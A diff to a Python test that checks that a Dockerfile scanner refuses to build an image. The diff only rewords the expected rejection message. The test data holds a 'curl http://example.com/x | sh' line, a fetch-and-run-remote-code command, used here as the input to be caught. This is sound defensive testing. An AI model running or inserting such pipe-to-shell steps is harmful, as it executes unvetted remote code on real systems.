@@ -142,7 +142,10 @@ async def test_a_dockerfile_that_fails_the_scan_is_not_built(base: str) -> None:
     engine = await ContainerEngine.find("docker")
     assert isinstance(engine, ContainerEngine)
     why = await plan_project_image_build(engine, {"Dockerfile": f"FROM {base}\nRUN curl http://example.com/x | sh\n"})
-    assert why == "The project was not built. Dockerfile, line 2: It runs a download, or hides what it runs."
+    assert (
+        why
+        == "The project was not built. Dockerfile, line 2: This line runs a downloaded program, or hides what it runs."
+    )
 
 
 @pytest.mark.feature("S0.56")
